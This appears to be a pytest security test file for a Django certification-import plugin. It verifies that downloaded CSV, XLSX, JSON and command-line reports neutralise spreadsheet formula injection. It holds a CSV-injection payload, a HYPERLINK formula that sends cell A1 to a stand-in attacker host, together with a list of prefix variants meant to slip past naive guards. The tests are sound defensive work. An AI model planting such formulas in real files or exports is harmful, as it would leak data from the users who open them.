"""No file that leaves the site makes a spreadsheet program compute, or send, anything."""

import csv
import io
import json
from contextlib import suppress

import openpyxl
import pytest
from cert_completion_hooks import normalised
from cert_completion_records.models import Certification
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from cert_completion_plugin import api
from tests.security.conftest import EVIL, file_of, now

pytestmark = pytest.mark.django_db

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\uff1d", " =", "\u00a0=", "\u200b=", "'=", '"=')
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
HEADINGS = ("username", "certificationshortname", "certificationidnumber", "completiondate", "duedate", "=1+1", "@x")


def formula(beginning):
    return f'{beginning}HYPERLINK("https://{EVIL}/"&A1;"x")'


@pytest.fixture
def batch(operator, imported):
    """An import of which learners, certifications, cells, headings and name are formulas; some rows are recorded."""
    rows = []
    for name in {normalised(formula(beginning)) for beginning in BEGINNINGS}:
        get_user_model().objects.create(username=name)
        Certification.objects.create(short_name=name, id_number=name, full_name=name)
    for beginning in BEGINNINGS:
        name = normalised(formula(beginning))
        rows.append((name, name, name, "31/05/2025", "", formula(beginning), formula(beginning)))
        rows.append((formula(beginning),) * len(HEADINGS))
        rows.append((formula(beginning),) * (len(HEADINGS) + 2))
    return imported(rows, headings=HEADINGS, name=f"{formula('=')}.csv")


def is_text(cell):
    """What a program that opens a CSV file takes for text, whatever it cuts off its beginning."""
    return not cell.strip(" \u00a0\u200b\ufeff").startswith(DANGEROUS)


def downloaded(client, batch, what, kind):
    response = client.get(reverse("cert_completion_plugin:download", args=[batch.reference, what, kind]))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("what", ["all", "problems", "recorded", "report"])
def test_csv(client, batch, what):
    table = list(csv.reader(io.StringIO(downloaded(client, batch, what, "csv").decode("utf-8-sig"), newline="")))
    assert len(table) > 5
    assert EVIL in str(table)
    assert [cell for row in table for cell in row if not is_text(cell)] == []


@pytest.mark.parametrize("what", ["all", "problems", "recorded"])
def test_workbooks(client, batch, what):
    book = openpyxl.load_workbook(io.BytesIO(downloaded(client, batch, what, "xlsx")))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert EVIL in str([cell.value for cell in cells])
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []


def test_json_holds_what_was_sent(client, batch):
    assert EVIL in str(json.loads(downloaded(client, batch, "all", "json")))


@pytest.mark.parametrize(
    "options", [{"format": "csv"}, {"rows": "all", "format": "csv"}, {"rows": "recorded", "format": "csv"}]
)
def test_the_command_line(batch, operator, options, capsys):
    with suppress(SystemExit):
        call_command("cert_completion_report", batch.reference, user=operator.username, **options)
    table = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"), newline="")))
    assert EVIL in str(table)
    assert [cell for row in table for cell in row if not is_text(cell)] == []


def test_the_template(operator, batch, client):
    response = client.get(reverse("cert_completion_plugin:template", args=["xlsx"]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert EVIL in str([cell.value for cell in cells])
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}


def test_what_was_guarded_comes_back_as_it_was(client, batch, operator):
    """A file of problem rows that is uploaded again is read without the guard."""
    content = downloaded(client, batch, "problems", "csv")
    again = api.submit(operator, [content], file_name="again.csv", options=api.Options.from_mapping({"review": False}))
    api.work_off(again.id)
    first = {row.username for row in api.rows(operator, batch) if row.outcome is api.Outcome.REJECTED}
    assert {row.username for row in api.rows(operator, now(again))} <= first
    assert file_of(("=1",))
